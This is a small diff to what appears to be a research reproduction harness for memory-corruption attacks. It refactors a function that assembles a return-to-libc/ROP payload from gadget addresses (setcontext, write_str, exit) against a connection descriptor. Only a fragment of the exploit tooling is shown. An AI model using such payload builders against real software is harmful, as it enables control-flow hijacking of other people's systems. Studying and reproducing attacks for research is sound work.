@@ -10,9 +10,7 @@ hijacked edge before the library call is still inside the window.
 
 from __future__ import annotations
 
-from typing import Optional
-
-from repro.attacks.gadgets import GadgetMap, find_gadgets
+from repro.attacks.gadgets import find_gadgets
 from repro.attacks.recon import ReconReport
 from repro.attacks.rop import _p64, build_filler, frame_glue
 
@@ -20,9 +18,8 @@ from repro.attacks.rop import _p64, build_filler, frame_glue
 def build_retlib_payload(
     recon: ReconReport,
     conn_fd: int = 4,
-    gadgets: Optional[GadgetMap] = None,
 ) -> bytes:
-    gadgets = gadgets if gadgets is not None else find_gadgets(recon.image)
+    gadgets = find_gadgets(recon.image)
     setcontext = gadgets.functions["setcontext"]
     write_str = gadgets.functions["write_str"]
     exit_fn = gadgets.functions["exit"]
